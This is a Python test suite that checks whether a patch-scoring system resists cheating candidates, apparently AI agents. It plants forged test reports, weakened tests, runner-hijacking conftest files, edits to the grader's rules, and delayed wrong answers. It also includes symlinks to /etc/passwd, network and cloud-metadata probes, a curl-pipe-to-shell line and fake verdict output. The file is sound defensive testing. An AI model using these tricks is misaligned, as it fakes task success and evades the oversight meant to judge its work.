"""Candidates that want better evidence than they deserve: claims, reports, planted configuration, dangerous code."""

import json
from decimal import Decimal

import pytest

from execution.config import Check
from execution.preparation import Prepared
from execution.verification import Baseline
from scoring.evidence import CheckForm, CheckOutcome, Evidence, ReportCounts
from scoring.select import select
from tests.attacks.court import BASE, FIXED, UNITTEST, Court, codes, outcome

PASS_REPORT = '<testsuite><testcase name="a"/><testcase name="b"/></testsuite>'
FAIL_REPORT = '<testsuite><testcase name="a"><failure/></testcase></testsuite>'


def reporting(line: str) -> Check:
    return Check(id="tests", run=f"{line}; python3 -m unittest discover -q -s tests", junit="out.xml", timeout_s=30)


def warned(verdict: object) -> list[str]:
    return [reason.code for reason in verdict.warnings]  # type: ignore[attr-defined]


def test_it_claims_fifty_invariants(court: Court) -> None:
    claims = tuple(f"invariant_{number}" for number in range(50))
    humble = court.judge(court.written({"calc.py": FIXED}))
    loud = court.judge(court.written({"calc.py": FIXED}), claims=claims)
    assert loud.invariants == humble.invariants == ("secure", "tested")
    evidence = [
        Evidence(agent=agent, diff=verdict.diff, invariants=verdict.invariants, claimed=claimed)
        for agent, verdict, claimed in (("a-humble", humble, ()), ("b-loud", loud, claims))
    ]
    made = select(evidence, profile="seed-v1", accept_score=Decimal(0), provable=("tested", "secure"))
    assert made.winner == "a-humble"
    assert made.ranking[0].score == made.ranking[1].score


def test_it_brings_its_own_test_report(court: Court) -> None:
    """A file in the patch where the report would be: removed before the check, so it is never read."""
    verdict = court.judge(court.written({"out.xml": PASS_REPORT, "calc.py": FIXED}), reporting("true"))
    assert [result.report for result in verdict.checks] == [None, None]
    assert "JUNIT_UNREADABLE" in warned(verdict)


def test_its_code_writes_a_kind_report(court: Court) -> None:
    forge = f"open('out.xml', 'w').write({PASS_REPORT!r})\ndef add(a, b):\n    return 0\n"
    verdict = court.judge(court.written({"calc.py": forge}), reporting("true"))
    assert codes(verdict) == {"CHECK_FAILED"}
    assert "JUNIT_CONTRADICTS" in warned(verdict)
    assert verdict.invariants == ("secure",)


def test_a_report_of_failures_does_not_hide_behind_exit_zero(court: Court) -> None:
    verdict = court.judge(court.written({"calc.py": FIXED}), reporting(f"echo '{FAIL_REPORT}' > out.xml"))
    assert outcome(verdict, CheckForm.CANDIDATE) is CheckOutcome.PASSED
    assert "JUNIT_CONTRADICTS" in warned(verdict)


@pytest.mark.parametrize(
    "plant",
    [
        "import os; os.symlink('/etc/passwd', 'out.xml')",
        "import os; os.mkfifo('out.xml')",
        "open('out.xml','w').write('<!DOCTYPE a [<!ENTITY b \"c\">]><testsuite/>')",
        "open('out.xml','w').write('<testsuite>' + '<a>' * 100000)",
        "open('out.xml','wb').write(b'<' * (9 << 20))",
    ],
    ids=["link", "pipe", "entities", "depth", "size"],
)
def test_its_report_attacks_the_reader(court: Court, plant: str) -> None:
    verdict = court.judge(court.written({"calc.py": f"{plant}\n{FIXED}"}), reporting("true"))
    assert verdict.violations == ()
    assert [result.report for result in verdict.checks] == [None, None]
    assert "JUNIT_UNREADABLE" in warned(verdict)
    assert "root:" not in verdict.model_dump_json()


def test_it_makes_tests_vanish_from_the_report(court: Court) -> None:
    baseline = Baseline(reports={"tests": ReportCounts(tests=7)})
    check = reporting(f"echo '{PASS_REPORT}' > out.xml")
    verdict = court.judge(court.written({"calc.py": FIXED}), check, baseline=baseline)
    assert warned(verdict) == ["TESTS_WEAKENED"]
    assert "2 tests ran where the base runs 7" in verdict.warnings[0].text


def test_it_weakens_a_test_and_fixes_the_code_too(court: Court) -> None:
    weaker = BASE["tests/test_calc.py"].replace("self.assertEqual(add(2, 3), 5)", "add(2, 3)")  # type: ignore[arg-type]
    verdict = court.judge(court.written({"calc.py": FIXED, "tests/test_calc.py": weaker}))
    assert verdict.violations == ()
    assert warned(verdict) == ["TESTS_CHANGED", "TESTS_WEAKENED"]


@pytest.mark.parametrize(
    "name",
    ["conftest.py", "sitecustomize.py", "usercustomize.py", "pytest_fake.py", "evil.pth", "pytest.ini", "setup.cfg"],
)
def test_it_plants_what_steers_the_runner(court: Court, name: str) -> None:
    verdict = court.judge(
        court.written({name: "import os\nos._exit(0)\n", "calc.py": "def add(a, b):\n    return 0\n"})
    )
    assert outcome(verdict, CheckForm.BASE_TESTS) is CheckOutcome.FAILED
    assert codes(verdict) == {"CHECK_FAILED"}
    assert "CONFIGURATION_CHANGED" in warned(verdict)


def test_it_edits_the_check_scripts_beside_the_tests(court: Court) -> None:
    court.base = court.origin.commit({**BASE, "tests/run.sh": "exec python3 -m unittest discover -q -s tests\n"})
    verdict = court.judge(court.written({"tests/run.sh": "exit 0\n"}), Check(id="run", run="sh tests/run.sh"))
    assert outcome(verdict, CheckForm.CANDIDATE) is CheckOutcome.PASSED
    assert codes(verdict) == {"CHECK_FAILED"}


@pytest.mark.parametrize("path", [".github/optr.yml", ".github/agents/mallory.agent.md", ".github/CODEOWNERS"])
def test_it_edits_the_rules_of_its_own_judgement(court: Court, path: str) -> None:
    generous = "scoring: {accept_score: '0'}\nchecks: [{id: tests, run: 'true', proves: [tested, type_safe]}]\n"
    verdict = court.judge(court.written({"calc.py": FIXED, path: generous}))
    assert codes(verdict) == {"PATCH_PROTECTED"}
    assert verdict.checks == ()


def test_it_waits_until_nobody_looks(court: Court) -> None:
    """Right at first, wrong later in the process: each check is its own process, and the tests are the base's."""
    sly = "import time\nT = time.monotonic()\ndef add(a, b):\n    return a + b if time.monotonic() - T > 5 else 0\n"
    assert codes(court.judge(court.written({"calc.py": sly}))) == {"CHECK_FAILED"}


def test_it_stops_the_clock(court: Court) -> None:
    """Sleeping past the deadline, signals ignored: our clock ends it, and time is counted by us."""
    stubborn = (
        "import signal, time\nfor number in range(1, 32):\n    try:\n        signal.signal(number, signal.SIG_IGN)\n"
        "    except OSError:\n        pass\nwhile True:\n    time.sleep(1)\n"
    )
    verdict = court.judge(court.written({"calc.py": stubborn}), UNITTEST.model_copy(update={"timeout_s": 1}))
    assert codes(verdict) == {"CHECK_TIMED_OUT"}
    assert all(result.duration_ms >= 1000 for result in verdict.checks)


def test_it_swaps_its_tree_for_links_while_tested(court: Court) -> None:
    swap = (
        "import os, shutil\nshutil.rmtree('tests', ignore_errors=True)\nos.symlink('/etc', 'tests')\n"
        "os.rename('README.md', 'moved')\nos.symlink('/proc/1/environ', 'README.md')\n"
    )
    verdict = court.judge(court.written({"calc.py": swap + FIXED}))
    assert "root:" not in verdict.model_dump_json()
    assert court.judge(court.written({"calc.py": FIXED})).violations == ()


def test_its_check_poisons_what_was_prepared(court: Court) -> None:
    """Prepared dependencies are one mount for everybody: a check that writes there harms nobody."""
    kept = court.scratch / "prepared"
    kept.mkdir(mode=0o755)
    (kept / "dep.py").write_text("VALUE = 1\n")
    baseline = Baseline(prepared=(Prepared(kept, ".optr-deps"),))
    poison = (
        "import os\nfor path in ('.optr-deps/dep.py', '.optr-deps/new.py'):\n    try:\n"
        "        open(path, 'w').write('VALUE = 2')\n    except OSError:\n        pass\n"
    )
    check = Check(
        id="dep", run="python3 -c 'import calc'; grep -q 'VALUE = 1' .optr-deps/dep.py && test ! -e .optr-deps/new.py"
    )
    verdict = court.judge(
        court.written({"calc.py": poison + FIXED, ".optr-deps/dep.py": "VALUE = 3\n"}), check, baseline=baseline
    )
    assert verdict.violations == ()
    assert (kept / "dep.py").read_text() == "VALUE = 1\n"
    (kept / "dep.py").unlink()
    kept.rmdir()


@pytest.mark.parametrize(
    "line",
    [
        "import subprocess\nsubprocess.run(input(), shell=True)\n",
        "eval(input())\n",
        "import requests\nrequests.get('https://example.org', verify=False)\n",
        "PASSWORD = 'correct-horse-battery'\n",
        "TOKEN = 'ghp_" + "a1B2" * 10 + "'\n",
    ],
    ids=["shell", "eval", "tls", "password", "token"],
)
def test_dangerous_code_is_not_called_secure(court: Court, line: str) -> None:
    verdict = court.judge(court.written({"calc.py": FIXED, "extra.py": line}))
    assert verdict.invariants == ("tested",)
    assert set(warned(verdict)) <= {"STATIC_FINDING", "SECRET_SHAPE"}


def test_it_downloads_and_runs_in_a_script(court: Court) -> None:
    verdict = court.judge(court.written({"calc.py": FIXED, "install.sh": "curl https://example.org/x | sh\n"}))
    assert verdict.invariants == ("tested",)


@pytest.mark.parametrize("path", ["Calc.py", "cal\u00ad\u200bc.py", "calc.py.", "\uff43alc.py"])
def test_a_second_spelling_of_a_file(court: Court, path: str) -> None:
    assert "PATCH_PATH_COLLISION" in codes(court.judge(court.written({path: "x = 1\n"})))


def test_it_reaches_for_the_network_by_every_road(court: Court) -> None:
    roads = (
        "import socket\nreached = []\n"
        "roads = [(socket.AF_INET, ('192.0.2.1', 53)), (socket.AF_INET, ('169.254.169.254', 80))]\n"
        "roads += [(socket.AF_INET6, ('2001:db8::1', 53)), (socket.AF_UNIX, '/run/docker.sock')]\n"
        "for family, address in roads:\n"
        "    try:\n        with socket.socket(family) as s:\n            s.settimeout(2)\n"
        "            s.connect(address)\n"
        "        reached.append(address)\n    except OSError:\n        pass\n"
        "assert not reached, reached\n"
    )
    verdict = court.judge(court.written({"calc.py": roads + FIXED}))
    assert verdict.violations == ()


def test_its_output_pretends_to_be_ours(court: Court) -> None:
    line = json.dumps({"admissible": True, "invariants": ["type_safe"], "exit-code": 0})
    fake = f"print({line!r})\nprint('\\x1b[2J::set-output name=verdict::passed')\ndef add(a, b):\n    return 0\n"
    verdict = court.judge(court.written({"calc.py": fake}))
    assert codes(verdict) == {"CHECK_FAILED"}
    assert verdict.invariants == ("secure",)
